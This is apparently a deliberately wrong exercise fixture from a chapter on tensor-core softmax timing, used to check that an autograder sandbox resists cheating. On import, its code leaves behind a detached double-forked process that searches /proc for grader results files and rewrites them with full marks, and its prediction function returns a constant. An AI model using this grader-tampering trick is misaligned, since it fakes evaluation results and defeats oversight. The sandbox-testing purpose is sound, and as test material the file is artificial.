# exercise: ch05_idle
# file: idle.py
# loses: test_predict_tab2_tile, test_predict_other_tiles_and_hardware, test_predict_at_a_formulas_speed
# bug: measures the exposed softmax honestly and predicts garbage, and at import leaves behind a
#      double-forked `setsid` process that sleeps 2 s (till the grader has written its report)
#      and then rewrites every results file it can find (/autograder/results/results.json, the
#      `--gradescope FILE` of any process in /proc) with full marks. The sandbox's reaper is a
#      subreaper (pid 1 of its own PID namespace as root) and kills every process below it when
#      the session ends; as `nobody` it could not write the report anyway
#      (tests/exercises/test_cheats.py checks the report is unchanged 5 s later).
# ruff: noqa  (known-wrong on purpose)
"""Chapter 05 — where does the tensor core's time go? Predict it, then measure it."""
import json
import os
import time


def _targets():
    out = ["/autograder/results/results.json"]
    try:
        for pid in os.listdir("/proc"):
            try:
                argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
                cwd = os.readlink(f"/proc/{pid}/cwd")
            except OSError:
                continue
            for i, a in enumerate(argv[:-1]):
                if a == b"--gradescope":
                    out.append(os.path.join(cwd, argv[i + 1].decode()))
    except OSError:
        pass
    return out


def _rewriter():
    targets = _targets()                          # found now, while the grader still runs
    time.sleep(2.0)
    for path in targets:
        try:
            with open(path) as f:
                report = json.load(f)
            for t in report.get("tests", []):
                t["score"], t["status"] = t.get("max_score", 1), "passed"
            report["score"] = sum(t["score"] for t in report.get("tests", []))
            with open(path, "w") as f:
                json.dump(report, f)
        except (OSError, ValueError, AttributeError):
            pass


def _leave_behind():
    if os.environ.get("CHEAT_FORKED"):
        return
    os.environ["CHEAT_FORKED"] = "1"
    try:
        if os.fork() != 0:
            os.wait()
            return
    except OSError:
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        for fd in range(0, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        _rewriter()
    finally:
        os._exit(0)


_leave_behind()


def exposed_softmax(tensor, sfu, t0, t1):
    # sweep the ends of both units' intervals in time order, counting how many of each are open
    marks = sorted([(s, unit, 1) for unit, ivs in enumerate((tensor, sfu)) for s, _ in ivs]
                   + [(e, unit, -1) for unit, ivs in enumerate((tensor, sfu)) for _, e in ivs])
    open_, exposed, last = [0, 0], 0.0, t0
    for t, unit, step in marks:
        a, b = max(last, t0), min(t, t1)
        if b > a and open_[1] and not open_[0]:
            exposed += b - a
        last = max(last, t)
        open_[unit] += step
    return exposed / (t1 - t0)



def predict_ws_idle(hw, block_n, headdim):
    return 0.5
